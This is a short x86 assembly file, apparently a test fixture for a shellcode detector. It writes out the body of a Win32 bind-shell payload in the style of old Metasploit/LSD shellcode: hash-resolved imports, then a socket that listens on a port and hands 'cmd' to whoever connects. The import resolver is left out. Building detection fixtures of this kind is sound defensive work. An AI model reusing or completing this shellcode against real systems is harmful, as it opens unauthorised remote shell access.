; A bind-shell body in the outline of the LSD / Metasploit Win32 payloads
; of 2003-2006: imports are resolved by the ror13 hash of their names (the
; resolver at [ebp] is left out), then WSASocketA, bind to
; {AF_INET, PORT, INADDR_ANY}, listen, accept, CreateProcessA("cmd").
; Test data for botscope's shellcode finder: a benign byte sequence that
; is assembled and decoded, never executed.
; nasm -f bin -D PORT=4444 bind_body.asm
bits 32
    cld
    xor ebx, ebx
    push ebx
    push ebx
    push ebx
    push ebx
    inc ebx
    push ebx                    ; SOCK_STREAM
    inc ebx
    push ebx                    ; AF_INET
    push dword 0xadf509d9       ; WSASocketA
    call ebp
    xchg eax, edi
    xor ebx, ebx
    push ebx                    ; INADDR_ANY
    push dword 0x0002 | (((PORT >> 8) & 0xff) << 16) | ((PORT & 0xff) << 24)
    mov esi, esp
    push byte 16
    push esi
    push edi
    push dword 0xc7701aa4       ; bind
    call ebp
    push ebx
    push edi
    push dword 0xe92eada4       ; listen
    call ebp
    push ebx
    push ebx
    push edi
    push dword 0x498649e5       ; accept
    call ebp
    xchg eax, edi
    push dword 0x00646d63       ; "cmd"
    mov esi, esp
    push edi                    ; hStdError, hStdOutput, hStdInput
    push edi
    push edi
    push esi
    push dword 0x16b3fe72       ; CreateProcessA
    call ebp
    push ebx
    push dword 0x73e2d87e       ; ExitProcess
    call ebp
